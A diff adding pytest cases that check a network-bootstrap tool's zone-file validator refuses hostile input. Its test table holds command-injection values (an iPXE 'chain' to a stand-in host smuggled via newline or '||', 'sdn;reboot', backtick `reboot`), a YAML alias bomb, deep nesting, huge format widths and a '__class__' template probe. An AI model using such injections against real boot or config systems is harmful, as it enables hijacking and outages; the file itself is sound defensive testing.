@@ -2,10 +2,15 @@
 
 from __future__ import annotations
 
+import os
+
 import pytest
+from conftest import LAB
 
 from bootstrap.errors import ZoneInvalid
-from bootstrap.zone import parse_zone_text
+from bootstrap.plan import compile_plan
+from bootstrap.state import Store
+from bootstrap.zone import load_zone, parse_zone_text
 
 
 def problems(text: str) -> list[str]:
@@ -139,3 +144,152 @@ def test_firmware_digest_must_be_hex(lab_text):
 
     text = re.sub(r'sha256: "[0-9a-f]+"', 'sha256: "abc"', lab_text)
     assert_reports(text, 'sha256: "abc"', "64 hex digits")
+
+
+# --- Hostile and service-breaking zone files (issue 10, rows 5 and 6; issue 13 item 5) ---
+# Each case is one change to examples/lab.yml: (old text, new text, a piece of the line
+# the problem must name, a piece of the message). `zone validate` loads them like this:
+# from a file, with the files it names (the lab's firmware and secrets beside it).
+
+BOMB = "".join(f"  b{i}: &b{i} [" + ", ".join([f"*b{i - 1}" if i else "x"] * 9) + "]\n"
+               for i in range(10))
+UNSAFE = "auto=true priority=critical"
+NAMING = 'naming: "{pod}-u{unit:02d}"'
+HOSTILE = {
+    # row 5: times within their wire limits, T1 < T2 < lease
+    "lease over u32": ("lease_time: 3600", "lease_time: 4294967296", "lease_time",
+                       "dhcp.lease_time = 4294967296 is outside 60..4294967295"),
+    "renew after rebind": ("lease_time: 3600", "lease_time: 3600, renew_time: 3200, "
+                           "rebind_time: 3100", "renew_time", "does not hold"),
+    # row 5: nothing that breaks a rendered script
+    "newline in naming": (NAMING, 'naming: "{pod}-u{unit:02d}\\nchain http://192.0.2.1/x"',
+                          "naming:", "character '\\n' is not allowed"),
+    "dollar in controller url": ('url: "http://10.17.0.2:8080"',
+                                 'url: "http://10.17.0.2:8080/${net0/mac}"', "10.17.0.2:8080",
+                                 "character '$' is not allowed"),
+    "space in controller url": ('url: "http://10.17.0.2:8080"', 'url: "http://10.17.0.2:8080/a b"',
+                                "10.17.0.2:8080", "is not a plain http(s) URL"),
+    "quote in cmdline": (UNSAFE, UNSAFE + " x='1'", "cmdline", "character \"'\" is not allowed"),
+    "ipxe operator in cmdline": (UNSAFE, UNSAFE + " || chain http://192.0.2.1/x", "cmdline",
+                                 "'|' and '&' are not allowed"),
+    "backtick in remote_id": ('remote_id: "{pod}-tor-b"', 'remote_id: "{pod}-`reboot`"',
+                              "`reboot`", "character '`' is not allowed"),
+    "backslash in username": ("username: admin", 'username: "ad\\\\min"', "username",
+                              "character '\\\\' is not allowed"),
+    "space in kernel path": ("kernel: images/debian-12/linux", 'kernel: "images/debian 12/linux"',
+                             "debian 12", "must not contain spaces"),
+    "shell in group name": ("groups: [sdn]", 'groups: ["sdn;reboot"]', "sdn;reboot",
+                            "not a valid group name"),
+    "redfish url with a space": ('url: "http://127.0.0.1:8000"', 'url: "http://127.0.0.1:8000/ {name}"',
+                                 "127.0.0.1:8000", "does not give a plain http(s) URL"),
+    # row 5: every rendered name a DNS label, every FQDN within 253
+    "slash in naming": (NAMING, 'naming: "{pod}/u{unit:02d}"', "naming:", "not a valid DNS label"),
+    "space in naming": (NAMING, 'naming: "{pod} u{unit:02d}"', "naming:", "not a valid DNS label"),
+    "label over 63": (NAMING, 'naming: "{pod}-u{unit:02d}-' + "x" * 55 + '"', "naming:",
+                      "not a valid DNS label of at most 59"),
+    "slash in switch name": ("    lom:   {role", "    lom/x: {role", "lom/x", "not a valid DNS label"),
+    "long core name": ("  core-2: {remote_id: core-2}", f"  core-{'x' * 60}: {{remote_id: core-2}}",
+                       "core-xxx", "not a valid DNS label"),
+    "fqdn over 253": ("domain: lab1.example.net", "domain: " + ".".join(["a" * 60] * 4),
+                      "domain:", "not a valid domain"),
+    # row 5 and issue 13: the files it names exist, firmware matches its sha256
+    "missing password file": ("secrets/bmc.pass", "secrets/nope.pass", "password_file",
+                              "credentials.bmc.password_file:"),
+    "missing firmware": ("firmware/bios-2.4.1.bin", "firmware/bios-9.bin", "image: firmware",
+                         "firmware.bios-2.4.1.image:"),
+    "firmware sha256 mismatch": ("872a5879c347", "072a5879c347", "sha256:", "sha256 is 872a5879"),
+    "missing ca file": ("verify_tls: false", "verify_tls: true\n  ca_file: certs/ca.pem",
+                        "ca_file", "redfish.ca_file:"),
+    # issue 13: no service address is an address the plan hands out
+    "controller on core-1": ("              core_from: 3}", "              core_from: 2}",
+                             "controller: {", "10.17.0.2 is also the address of core switch core-1"),
+    "dns upstream on a server": ("upstreams: [192.0.2.53]", "upstreams: [10.17.1.13]", "upstreams",
+                                 "10.17.1.13 is also the address of p01-u03 on networks.provision"),
+    "dns upstream is the controller": ("upstreams: [192.0.2.53]", "upstreams: [10.17.0.2]",
+                                       "upstreams", "is the controller itself"),
+    # row 6: bounded loading and templates, an error with its line instead of a hang
+    "alias bomb": ("up: {", "bomb:\n" + BOMB + "up: {", "b5:", "more than 200000 values"),
+    "deep nesting": ("up: {", "deep: " + "[" * 5000 + "]" * 5000 + "\nup: {", "deep:",
+                     "nested deeper than 32 levels"),
+    "huge naming width": (NAMING, 'naming: "{pod}-{unit:>900000000}"', "naming:",
+                          "only a width up to 99"),
+    "huge circuit width": ('circuit_id: "swp{port}"', 'circuit_id: "swp{port:>900000000}"',
+                           "circuit_id:", "only a width up to 99"),
+    "huge remote_id precision": ('remote_id: "{pod}-tor-a"', 'remote_id: "{pod:.900000000}-a"',
+                                 "{pod:.9", "only a width up to 99"),
+    "huge redfish width": ('system: "{name}"', 'system: "{name:>900000000}"', "system:",
+                           "only a width up to 99"),
+    "attribute in template": (NAMING, 'naming: "{pod.__class__}-{unit}"', "naming:",
+                              "unknown field {pod.__class__}"),
+    "huge unit range": ("{units: 3-4, role: hypervisor}", "{units: 3-100000000, role: hypervisor}",
+                        "3-100000000", "holds at most 256 units"),
+    "integer too long": ("index: 1}", "index: " + "9" * 5000 + "}", "index: 999", "integer too long"),
+    "mapping as a key": ("up: {", "? {a: 1}\n: 2\nup: {", "? {a: 1}", "a key must be plain text"),
+    "file over 10 MB": ("pods:", "#" + "x" * (10 << 20) + "\npods:", "# The built-in lab",
+                        "larger than 10 MB"),
+}
+
+
+def zone_dir(tmp_path, text: str) -> str:
+    """``text`` as a zone file beside the lab's firmware and secrets."""
+    examples = os.path.dirname(LAB)
+    for folder in ("firmware", "secrets"):
+        os.symlink(os.path.join(examples, folder), tmp_path / folder)
+    path = tmp_path / "z.yml"
+    path.write_text(text, encoding="utf-8")
+    return str(path)
+
+
+@pytest.mark.timeout(20)
+@pytest.mark.parametrize("case", sorted(HOSTILE))
+def test_hostile_zone_is_refused_with_its_line(case, lab_text, tmp_path):
+    old, new, needle, fragment = HOSTILE[case]
+    text = broken(lab_text, old, new)
+    path = zone_dir(tmp_path, text)
+    with pytest.raises(ZoneInvalid) as info:
+        load_zone(path, files=True)
+    found = [str(p) for p in info.value.problems]
+    expected = f"{path}:{line_of(text, needle)}: "
+    assert any(p.startswith(expected) and fragment in p for p in found), found
+    assert all("\n" not in p and len(p) < 500 for p in found), found
+
+
+def test_lab_files_and_digest_are_checked(lab_text, tmp_path):
+    zone = load_zone(zone_dir(tmp_path, lab_text), files=True)
+    # the boot images come later (zone up --lab installs the lab's): said, not refused
+    assert {w.message.split(":")[0] for w in zone.warnings} == {"images.debian-12.kernel",
+                                                                "images.debian-12.initrd"}
+    # `zone validate --no-hash`: the images must exist, their digest is not computed
+    text = broken(lab_text, "872a5879c347", "072a5879c347")
+    (tmp_path / "no-hash").mkdir()
+    load_zone(zone_dir(tmp_path / "no-hash", text), files=True, hashes=False)
+
+
+def ipxe_scripts(plan, tmp_path) -> list[str]:
+    """Every server's iPXE script, asked for from its own address."""
+    from http_helpers import from_address, make_app
+
+    store = Store(str(tmp_path / "state" / "zone.db"))
+    store.seed(plan)
+    try:
+        client = make_app(plan, store).test_client()
+        return [client.get("/boot/ipxe", **from_address(n.address)).get_data(as_text=True)
+                for n in plan.servers()]
+    finally:
+        store.close()
+
+
+@pytest.mark.timeout(60)
+def test_newline_in_naming_cannot_reach_an_ipxe_script(lab_text, tmp_path):
+    text = broken(lab_text, NAMING, 'naming: "{pod}-u{unit:02d}\\nchain http://192.0.2.1/x"')
+    try:
+        plan = compile_plan(parse_zone_text(text, "z.yml"))
+    except ZoneInvalid as exc:
+        assert "naming: character '\\n' is not allowed" in str(exc)
+        plan = compile_plan(parse_zone_text(lab_text, "z.yml"))
+    scripts = ipxe_scripts(plan, tmp_path)
+    assert len(scripts) == 4
+    for body in scripts:
+        assert "192.0.2.1" not in body
+        assert [line for line in body.splitlines() if line.startswith("chain")] == \
+            [line for line in body.splitlines() if line.startswith("chain --replace")], body
